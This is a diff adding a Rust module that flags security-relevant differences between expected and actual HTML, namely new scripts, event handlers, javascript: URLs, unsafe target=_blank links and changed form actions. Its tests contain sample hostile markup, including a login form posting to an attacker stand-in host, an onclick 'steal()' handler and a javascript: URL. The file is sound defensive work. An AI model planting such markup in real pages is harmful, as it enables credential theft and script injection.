@@ -0,0 +1,199 @@
+//! Security-relevant differences between the expected and actual documents.
+//!
+//! With [`HtmlCompareOptions::security_checks`](crate::HtmlCompareOptions),
+//! changes that can introduce script execution or leak the page are reported
+//! as [`Difference::Security`] with the most severe
+//! [`DifferenceCategory`](crate::diff::DifferenceCategory), even when other
+//! options such as `ignored_attributes` would hide them: new `<script>`
+//! elements, inline event handlers, `javascript:` URLs, `target=_blank` links
+//! without `rel=noopener` and altered form actions.
+
+use std::fmt;
+
+use scraper::Html;
+
+use crate::{Difference, HtmlComparer};
+
+/// Attributes whose value is navigated to or loaded
+pub(crate) const URL_ATTRIBUTES: &[&str] = &["action", "formaction", "href", "src", "xlink:href"];
+
+/// A security-relevant construct of the actual document that the expected
+/// document does not have
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub enum SecurityIssue {
+    /// A `<script>` element, with its `src` if it has one
+    Script { src: Option<String> },
+    /// An `on*` event handler attribute
+    EventHandler { name: String },
+    /// A URL attribute using the `javascript:` scheme
+    JavascriptUrl { attribute: String },
+    /// A `target=_blank` link without `rel=noopener` or `rel=noreferrer`
+    UnsafeBlankTarget,
+    /// A form posting somewhere else than expected
+    FormAction { action: Option<String> },
+}
+
+impl fmt::Display for SecurityIssue {
+    fn fmt(&self, f: &mut fmt::Formatter) -> fmt::Result {
+        match self {
+            SecurityIssue::Script { src: Some(src) } => write!(f, "new script {:?}", src),
+            SecurityIssue::Script { src: None } => f.write_str("new inline script"),
+            SecurityIssue::EventHandler { name } => write!(f, "new event handler {}", name),
+            SecurityIssue::JavascriptUrl { attribute } => {
+                write!(f, "javascript: URL in {}", attribute)
+            }
+            SecurityIssue::UnsafeBlankTarget => f.write_str("target=_blank without rel=noopener"),
+            SecurityIssue::FormAction {
+                action: Some(action),
+            } => {
+                write!(f, "form action changed to {:?}", action)
+            }
+            SecurityIssue::FormAction { action: None } => f.write_str("form action removed"),
+        }
+    }
+}
+
+impl HtmlComparer {
+    /// The security issues of `actual` that `expected` doesn't have
+    pub(crate) fn security_differences(&self, expected: &Html, actual: &Html) -> Vec<Difference> {
+        if !self.options.security_checks {
+            return Vec::new();
+        }
+        // Matched by content rather than path, so that moved markup isn't
+        // reported
+        let mut expected = self.security_issues(expected);
+        self.security_issues(actual)
+            .into_iter()
+            .filter(
+                |(_, issue)| match expected.iter().position(|(_, other)| other == issue) {
+                    Some(index) => {
+                        expected.swap_remove(index);
+                        false
+                    }
+                    None => true,
+                },
+            )
+            .map(|(path, issue)| Difference::Security { path, issue })
+            .collect()
+    }
+
+    /// The security-relevant constructs of `document` along with their paths
+    fn security_issues(&self, document: &Html) -> Vec<(String, SecurityIssue)> {
+        let mut issues = Vec::new();
+        self.walk_elements(document.root_element(), "/html", &mut |element, path| {
+            let el = element.value();
+            let mut report = |issue| issues.push((path.to_string(), issue));
+
+            if el.name() == "script" {
+                report(SecurityIssue::Script {
+                    src: el.attr("src").map(str::to_string),
+                });
+            }
+            if el.name() == "form" {
+                report(SecurityIssue::FormAction {
+                    action: el.attr("action").map(str::to_string),
+                });
+            }
+            let mut attributes: Vec<_> = el.attrs().collect();
+            attributes.sort_unstable();
+            for (name, value) in attributes {
+                if name.starts_with("on") {
+                    report(SecurityIssue::EventHandler {
+                        name: name.to_string(),
+                    });
+                }
+                if URL_ATTRIBUTES.contains(&name) && is_javascript_url(value) {
+                    report(SecurityIssue::JavascriptUrl {
+                        attribute: name.to_string(),
+                    });
+                }
+            }
+            if el
+                .attr("target")
+                .is_some_and(|target| target.eq_ignore_ascii_case("_blank"))
+                && !el.attr("rel").is_some_and(|rel| {
+                    rel.split_ascii_whitespace().any(|token| {
+                        token.eq_ignore_ascii_case("noopener")
+                            || token.eq_ignore_ascii_case("noreferrer")
+                    })
+                })
+            {
+                report(SecurityIssue::UnsafeBlankTarget);
+            }
+        });
+        issues
+    }
+}
+
+/// Whether `url` uses the `javascript:` scheme, as browsers parse it
+fn is_javascript_url(url: &str) -> bool {
+    let scheme: String = url
+        .trim_start_matches(|c: char| c <= ' ')
+        .chars()
+        .filter(|c| !matches!(c, '\t' | '\n' | '\r'))
+        .take("javascript:".len())
+        .collect();
+    scheme.eq_ignore_ascii_case("javascript:")
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::diff::DifferenceCategory;
+    use crate::{HtmlCompareError, HtmlCompareOptions};
+
+    fn comparer() -> HtmlComparer {
+        HtmlComparer::with_options(HtmlCompareOptions {
+            security_checks: true,
+            ignore_attributes: true,
+            ..Default::default()
+        })
+    }
+
+    #[test]
+    fn test_security_differences() {
+        let expected = r#"<form action="/login"><button>Log in</button></form>
+            <a href="/help" target="_blank" rel="noopener">Help</a>
+            <script src="/app.js"></script>"#;
+        let actual = r#"<form action="https://evil.example/login"><button onclick="steal()">Log in</button></form>
+            <a href=" JavaScript:alert(1)" target="_blank">Help</a>
+            <script src="/app.js"></script>"#;
+
+        let diff = comparer().diff(expected, actual);
+        let differences: Vec<_> = diff.iter().map(ToString::to_string).collect();
+        assert_eq!(
+            differences,
+            [
+                "/html/body/form: security: form action changed to \"https://evil.example/login\"",
+                "/html/body/form/button: security: new event handler onclick",
+                "/html/body/a: security: javascript: URL in href",
+                "/html/body/a: security: target=_blank without rel=noopener",
+            ]
+        );
+        assert_eq!(diff.count(DifferenceCategory::Security), 4);
+        assert!(diff.summary().starts_with("4 differences: 4 security"));
+        assert!(matches!(
+            comparer().verify(expected, actual),
+            Err(HtmlCompareError::SecurityRisk(_))
+        ));
+    }
+
+    #[test]
+    fn test_new_scripts() {
+        let expected = "<p>Hi</p><script>init()</script>";
+        let actual = "<p>Hi</p><script>init()</script><script src='//cdn.example/x.js'></script>";
+        let diff = comparer().diff(expected, actual);
+        assert!(diff.iter().any(|difference| matches!(
+            difference,
+            Difference::Security {
+                issue: SecurityIssue::Script { src: Some(src) },
+                ..
+            } if src == "//cdn.example/x.js"
+        )));
+        assert!(HtmlComparer::new()
+            .diff(expected, actual)
+            .iter()
+            .all(|difference| difference.category() != DifferenceCategory::Security));
+        comparer().verify(expected, expected).unwrap();
+    }
+}